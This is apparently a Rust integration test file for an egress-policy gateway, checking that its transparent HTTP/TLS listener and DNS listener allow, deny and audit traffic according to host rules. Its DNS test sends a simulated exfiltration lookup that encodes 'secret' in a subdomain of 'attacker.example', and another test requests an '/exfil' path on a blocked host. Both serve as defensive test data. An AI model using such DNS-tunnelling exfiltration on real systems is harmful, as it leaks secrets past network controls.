//! The transparent listener (original destination injected: no nft on loopback) and
//! the DNS listener.

mod common;

use std::time::Duration;

use common::*;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream, UdpSocket};

const POLICY: &str = r#"
[network]
default = "deny"

[[network.rule]]
host = "api.test.example"
methods = ["GET"]
path = "/v1/**"
action = "allow"

[[network.rule]]
host = "other.test.example"
action = "allow"

[[network.rule]]
host = "*.blocked.example"
action = "deny"
"#;

#[tokio::test]
async fn transparent_http_uses_host_header_and_policy() {
    let env = env(POLICY).await;
    let t = transparent(&env, env.up_http).await;
    let mut c = handshake(TcpStream::connect(t).await.unwrap()).await;
    let host = format!("{HOST}:{}", env.up_http);
    let r = send(&mut c, "GET", "/v1/ok", &host, "").await;
    assert_eq!(r.status, 200, "{}", r.body);
    let r = send(&mut c, "GET", "/admin", &host, "").await;
    assert_eq!(r.status, 403);
    assert_eq!(find_event(&env, "http", "/admin").unwrap().details["via"], "transparent");
    // A second host on the same connection is refused.
    let r = send(&mut c, "GET", "/v1/ok", &format!("{OTHER}:{}", env.up_http), "").await;
    assert_eq!(r.status, 421);
}

#[tokio::test]
async fn transparent_tls_uses_sni_and_intercepts() {
    let env = env(POLICY).await;
    let t = transparent(&env, env.up_https).await;
    let tcp = TcpStream::connect(t).await.unwrap();
    let tls = tokio_rustls::TlsConnector::from(env.agent_tls.clone())
        .connect(rustls::pki_types::ServerName::try_from(HOST).unwrap(), tcp)
        .await
        .unwrap();
    let mut c = handshake(tls).await;
    let host = format!("{HOST}:{}", env.up_https);
    assert_eq!(send(&mut c, "GET", "/v1/ok", &host, "").await.status, 200);
    assert_eq!(send(&mut c, "POST", "/v1/ok", &host, "").await.status, 403);
    let ev = find_event(&env, "http", "\"POST\"").unwrap();
    assert_eq!(ev.details["via"], "transparent");
    assert_eq!(ev.details["scheme"], "https");
}

#[tokio::test]
async fn transparent_without_a_name_is_denied_and_audited() {
    let env = env(POLICY).await;
    let t = transparent(&env, 5432).await;
    let mut tcp = TcpStream::connect(t).await.unwrap();
    tcp.write_all(b"\x00\x01binary protocol").await.unwrap();
    let mut buf = [0u8; 16];
    let n = tokio::time::timeout(Duration::from_secs(5), tcp.read(&mut buf)).await.unwrap().unwrap_or(0);
    assert_eq!(n, 0, "closed without forwarding");
    let ev = wait_event(&env, "connect", "no host name").await;
    assert_eq!(ev.decision.as_deref(), Some("deny"));
}

/// TLS to a host the rules deny, caught by the transparent listener: the handshake
/// completes with gvm's leaf and the request gets the 403 naming it and the deny rule.
#[tokio::test]
async fn transparent_denied_sni_is_answered_inside_tls() {
    let env = env(POLICY).await;
    let mut c = transparent_tls(&env, 443, "x.blocked.example").await;
    let r = send(&mut c, "GET", "/exfil?q=1", "x.blocked.example", "").await;
    assert_eq!(r.status, 403, "{}", r.body);
    let j = r.json();
    assert_eq!(j["error"], "gvm denied this request: GET https://x.blocked.example/exfil?q=1", "{j}");
    assert!(j["rule"].as_str().unwrap().starts_with("network.rule[2]"), "{j}");
    let ev = find_event(&env, "connect", "x.blocked.example").unwrap();
    assert_eq!(ev.decision.as_deref(), Some("deny"));
    let ev = find_event(&env, "http", "x.blocked.example").unwrap();
    assert_eq!(ev.decision.as_deref(), Some("deny"));
    assert!(ev.rule.as_deref().unwrap().starts_with("network.rule[2]"));
    assert_eq!((ev.details["via"].as_str(), ev.details["path"].as_str()), (Some("transparent"), Some("/exfil")));
}

/// A ClientHello with SNI and an `encrypted_client_hello` extension (type 0xfe0d).
fn hello_with_ech(sni: &str) -> Vec<u8> {
    let mut ext = Vec::new();
    let name = sni.as_bytes();
    ext.extend_from_slice(&[0, 0]);
    ext.extend_from_slice(&((name.len() + 5) as u16).to_be_bytes());
    ext.extend_from_slice(&((name.len() + 3) as u16).to_be_bytes());
    ext.push(0);
    ext.extend_from_slice(&(name.len() as u16).to_be_bytes());
    ext.extend_from_slice(name);
    ext.extend_from_slice(&[0xfe, 0x0d, 0, 4, 1, 2, 3, 4]);
    let mut hs = vec![3, 3];
    hs.extend_from_slice(&[7; 32]);
    hs.extend_from_slice(&[0, 0, 2, 0x13, 0x01, 1, 0]);
    hs.extend_from_slice(&(ext.len() as u16).to_be_bytes());
    hs.extend_from_slice(&ext);
    let mut msg = vec![1, 0];
    msg.extend_from_slice(&(hs.len() as u16).to_be_bytes());
    msg.extend_from_slice(&hs);
    let mut rec = vec![0x16, 3, 1];
    rec.extend_from_slice(&(msg.len() as u16).to_be_bytes());
    rec.extend_from_slice(&msg);
    rec
}

/// A denied hello that offers ECH is not answered inside TLS (its SNI is only the
/// public name): closed, with the refusal recorded.
#[tokio::test]
async fn transparent_denied_hello_with_ech_is_closed() {
    let env = env(POLICY).await;
    let mut tcp = TcpStream::connect(transparent(&env, 443).await).await.unwrap();
    tcp.write_all(&hello_with_ech("ech.blocked.example")).await.unwrap();
    let mut buf = [0u8; 64];
    let n = tokio::time::timeout(Duration::from_secs(5), tcp.read(&mut buf)).await.unwrap().unwrap_or(0);
    assert_eq!(n, 0, "closed without a handshake: {:?}", &buf[..n]);
    let ev = wait_event(&env, "connect", "ech.blocked.example").await;
    assert_eq!(ev.decision.as_deref(), Some("deny"));
}

fn query(id: u16, name: &str, qtype: u16) -> Vec<u8> {
    let mut b = id.to_be_bytes().to_vec();
    b.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
    for l in name.split('.') {
        b.push(l.len() as u8);
        b.extend_from_slice(l.as_bytes());
    }
    b.push(0);
    b.extend_from_slice(&qtype.to_be_bytes());
    b.extend_from_slice(&1u16.to_be_bytes());
    b
}

#[tokio::test]
async fn dns_answers_from_policy_only() {
    let env = env(POLICY).await;
    let udp = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let tcp = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let (ua, ta) = (udp.local_addr().unwrap(), tcp.local_addr().unwrap());
    let answer = "127.0.0.53".parse().unwrap();
    env.gw.serve_dns(udp, tcp, &gvm_api::ProfileName::parse("agent").unwrap(), answer);
    let c = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let ask = |name: &'static str, qtype: u16| {
        let c = &c;
        async move {
            c.send_to(&query(42, name, qtype), ua).await.unwrap();
            let mut buf = [0u8; 512];
            let (n, _) = tokio::time::timeout(Duration::from_secs(5), c.recv_from(&mut buf)).await.unwrap().unwrap();
            buf[..n].to_vec()
        }
    };
    let a = ask("API.test.example", 1).await;
    assert_eq!(a[3] & 0x0f, 0, "NOERROR");
    assert_eq!(&a[6..8], &[0, 1], "one answer");
    assert_eq!(&a[a.len() - 4..], &[127, 0, 0, 53]);
    let aaaa = ask("api.test.example", 28).await;
    assert_eq!(aaaa[3] & 0x0f, 0);
    assert_eq!(&aaaa[6..8], &[0, 0], "AAAA: empty NOERROR");
    // Exfiltration through a lookup: NXDOMAIN, audited, never forwarded.
    let nx = ask("c2VjcmV0.attacker.example", 16).await;
    assert_eq!(nx[3] & 0x0f, 3);
    let nx = ask("x.blocked.example", 1).await;
    assert_eq!(nx[3] & 0x0f, 3);
    let ev = find_event(&env, "dns", "c2vjcmv0.attacker.example").unwrap();
    assert_eq!(ev.decision.as_deref(), Some("deny"));
    assert_eq!(find_event(&env, "dns", "api.test.example").unwrap().decision.as_deref(), Some("allow"));
    // TCP.
    let mut s = TcpStream::connect(ta).await.unwrap();
    let q = query(7, "other.test.example", 1);
    let mut framed = (q.len() as u16).to_be_bytes().to_vec();
    framed.extend_from_slice(&q);
    s.write_all(&framed).await.unwrap();
    let len = s.read_u16().await.unwrap();
    let mut a = vec![0u8; len as usize];
    s.read_exact(&mut a).await.unwrap();
    assert_eq!(&a[a.len() - 4..], &[127, 0, 0, 53]);
}
